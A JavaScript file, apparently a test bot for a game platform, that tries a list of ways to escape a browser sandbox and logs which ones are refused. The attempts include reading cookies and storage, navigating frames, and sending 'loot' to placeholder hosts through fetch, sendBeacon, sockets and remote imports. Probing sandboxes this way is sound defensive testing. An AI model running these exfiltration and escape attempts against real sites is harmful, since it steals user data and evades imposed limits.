// A bot that tries to get out of the tab's sandbox, and prints what came of each attempt.

const report = {};
const request = (make, good) => new Promise((got, refused) => {
  const made = make();
  made[good] = () => got("opened");
  made.onerror = () => refused(new Error("error event"));
});
const ATTEMPTS = {
  cookie: () => document.cookie,
  dom: () => document.body.innerHTML,
  parent: () => parent.document.title,
  top: () => { top.location.href = "ELSEWHERE/top"; },
  location: () => { location.href = "ELSEWHERE/location"; if (location.href !== "ELSEWHERE/location") throw new Error("stayed"); },
  popup: () => open("ELSEWHERE/popup"),
  localStorage: () => localStorage.getItem("ladle-draft-hot_ramen"),
  sessionStorage: () => sessionStorage.length,
  indexedDB: () => request(() => indexedDB.open("loot"), "onsuccess"),
  caches: () => caches.open("loot"),
  fetch: () => fetch("SITE/stolen/fetch"),
  fetchBlind: () => fetch("ELSEWHERE/fetch", { mode: "no-cors", method: "POST", body: "loot" }),
  xhr: () => { const ask = new XMLHttpRequest(); ask.open("GET", "SITE/stolen/xhr", false); ask.send(); },
  socket: () => request(() => new WebSocket("ws://HOST/socket"), "onopen"),
  events: () => request(() => new EventSource("ELSEWHERE/events"), "onopen"),
  beacon: () => navigator.sendBeacon("ELSEWHERE/beacon", "loot"),
  transport: () => new WebTransport("https://HOST/transport").ready,
  import: () => import("SITE/stolen/import.js"),
  importElsewhere: () => import("ELSEWHERE/import.js"),
  importScripts: () => importScripts("SITE/stolen/script.js"),
  worker: () => request(() => new Worker("SITE/stolen/worker.js"), "onmessage"),
  shared: () => request(() => new SharedWorker("SITE/stolen/shared.js"), "onmessage"),
  service: () => navigator.serviceWorker.register("SITE/stolen/service.js"),
  eval: () => eval("1"),
};

async function attempt(name) {
  try {
    report[name] = `got ${await ATTEMPTS[name]()}`;
  } catch (error) {
    report[name] = `refused ${error?.name}`;
  }
}

function decide(view) {
  if (!("cookie" in report)) {
    for (const name of Object.keys(ATTEMPTS)) {
      report[name] = "waiting";
      attempt(name);
    }
    new BroadcastChannel("loot").postMessage("loot");
  }
  const all = Object.entries(report);
  console.log(JSON.stringify({ tried: all.length, got: Object.fromEntries(all.filter(([, one]) => !one.startsWith("refused"))) }));
  return view.legal[0];
}
